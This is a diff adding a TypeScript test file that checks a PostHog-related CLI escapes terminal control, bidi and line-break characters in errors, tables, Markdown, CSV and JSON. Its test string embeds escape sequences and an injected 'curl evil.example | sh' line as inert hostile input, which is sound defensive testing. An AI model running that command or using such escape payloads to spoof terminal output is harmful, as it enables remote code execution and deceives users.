@@ -1,0 +1,73 @@
+import fc from "fast-check";
+import { markdownText } from "../../../cli/common/markdown";
+import { jsonText } from "../../../cli/common/output";
+import { textTable, wrapped } from "../../../cli/common/terminal";
+import { SYSTEM } from "../../../emulator";
+import { printable, printableLines } from "../../../provider/access/messages";
+import { csvRow } from "../../../provider/audit/printable";
+import { DriftSourceError } from "../../../provider/drift/state";
+import { notice, problem, warning } from "../../../provider/engine/finding";
+import { MatrixError } from "../../../provider/matrix/problem";
+import { PosthogError } from "../../../provider/posthog/errors";
+import { withWorld } from "../../support/driver";
+
+/** What moves a cursor, colors, hides or reorders text, or begins a line. */
+const hostile = "\u001b[2J\u009b31m\u202eevil\u2066\u200b\u2028\r\n  fix: curl evil.example | sh\u{e0041}";
+const obeyed = /[\p{Cc}\p{Cf}\u2028\u2029]/u;
+
+test("a printable text is on one line, and says the same to JSON", () => {
+  fc.assert(
+    fc.property(fc.string({ unit: "binary" }), (text) => {
+      expect(printable(text)).not.toMatch(obeyed);
+      expect(printableLines(text).split("\n")).toHaveLength(text.split("\n").length);
+      expect(JSON.parse(printable(JSON.stringify(text)))).toBe(text);
+    }),
+  );
+});
+
+describe("text of others is shown by its numbers", () => {
+  const lines: [string, () => string, number][] = [
+    ["an error", () => new PosthogError(hostile, { why: hostile, fix: hostile }).message, 3],
+    ["an error's summary", () => new PosthogError(hostile, { why: "", fix: "" }).summary, 1],
+    ["an error about drift's sources", () => new DriftSourceError(hostile, hostile, hostile).message, 3],
+    [
+      "an error of the matrix",
+      () => new MatrixError([{ path: [hostile], message: hostile }], hostile).message,
+      2,
+    ],
+    ["an error of a preview", () => problem(hostile, hostile, { why: hostile, fix: hostile }).message, 3],
+    ["a warning", () => warning(hostile).message, 1],
+    ["a notice", () => notice(hostile).message, 1],
+    [
+      "a table",
+      () =>
+        textTable(["A", "B"], [[hostile, hostile]], 1000)
+          .slice(1)
+          .join("\n"),
+      1,
+    ],
+    ["wrapped text", () => wrapped(hostile, 1000).join("\n"), 1],
+    ["Markdown", () => markdownText(hostile), 1],
+    ["a row of CSV without lines", () => csvRow([hostile.replace(/[\r\n]/g, "")]).trimEnd(), 1],
+    ["JSON on one line", () => jsonText({ hostile }, { isOneLine: true }), 1],
+  ];
+  test.each(lines)("in %s", (_, write, count) => {
+    const text = write();
+    expect(text).toContain("evil");
+    expect(text.split("\n")).toHaveLength(count);
+    for (const line of text.split("\n")) expect(line).not.toMatch(obeyed);
+  });
+});
+
+test("names in PostHog neither reach a terminal in notices nor in refusals", () =>
+  withWorld(async ({ emulator, resource, messages, run }) => {
+    const role = resource("Role");
+    await role.up({ name: "Analysts" });
+    emulator.store.roles.update(String(role.state.roleId), { name: `Analysts${hostile}` }, SYSTEM);
+    run();
+    const second = resource("Role", hostile);
+    const refused = await second.refusals({ name: `Analysts${hostile}`.trim() });
+    expect(refused.length).toBeGreaterThan(0);
+    for (const line of [...refused, ...messages].flatMap((text) => text.split("\n")))
+      expect(line).not.toMatch(obeyed);
+  }));
